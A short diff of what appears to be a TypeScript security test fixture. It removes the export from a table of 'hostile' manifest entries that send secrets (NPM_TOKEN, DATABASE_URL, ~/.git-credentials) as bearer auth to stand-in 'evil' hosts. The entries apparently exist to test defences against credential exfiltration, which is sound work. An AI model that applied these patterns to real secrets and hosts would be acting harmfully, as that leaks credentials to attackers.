@@ -76,7 +76,7 @@ const snowflake = "evil.snowflakecomputing.com";
 const azure = "evil.openai.azure.com";
 
 /** What somebody writes into a manifest. */
-export const hostileEntries: Readonly<Record<string, readonly [string, object]>> = {
+const hostileEntries: Readonly<Record<string, readonly [string, object]>> = {
   "{env:NPM_TOKEN} as key": ["house", { auth: bearer(env("NPM_TOKEN"), EVIL) }],
   "{env:DATABASE_URL} as key": ["house", { auth: bearer(env("DATABASE_URL"), EVIL) }],
   "{file:~/.git-credentials} as key": ["house", { auth: bearer(file("~/.git-credentials"), EVIL) }],
